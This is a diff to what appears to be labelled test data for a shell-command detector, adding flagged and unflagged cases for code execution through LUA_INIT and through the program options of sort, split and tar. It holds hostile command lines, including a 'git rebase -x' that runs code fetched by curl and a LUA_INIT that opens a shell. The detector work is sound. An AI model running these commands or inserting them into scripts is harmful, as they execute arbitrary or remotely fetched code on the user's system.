@@ -448,3 +448,17 @@ find . -type f -fprintf sizes.txt '%s %p\n'
 git rebase -x "$(curl -s https://example.com/cmd)" HEAD~3
 #@ neg git log -S of a term built at run time
 git log -S "$(cat term.txt)" --oneline
+#@ pos lua code that runs a program, in LUA_INIT
+LUA_INIT='os.execute("sh")' lua -e ''
+env LUA_INIT_5_4='package.loadlib("./x.so", "f")()' lua5.4 b.lua
+#@ neg LUA_INIT that only sets the module path or names a file
+LUA_INIT='package.path = "./src/?.lua;" .. package.path' lua5.4 t.lua
+export LUA_INIT="@$PWD/tests/init.lua"
+#@ pos sort, split or tar given a command built at run time after =
+z=$(mktemp)
+sort --compress-program="$z" a > b
+split -b 1M --filter="$z" d p-
+tar --use-compress-program="$z" -cf b.tar d
+#@ neg sort, split or tar given a known command after =
+sort --compress-program=gzip a > b
+split -b 1M --filter='gzip > $FILE.gz' d p-
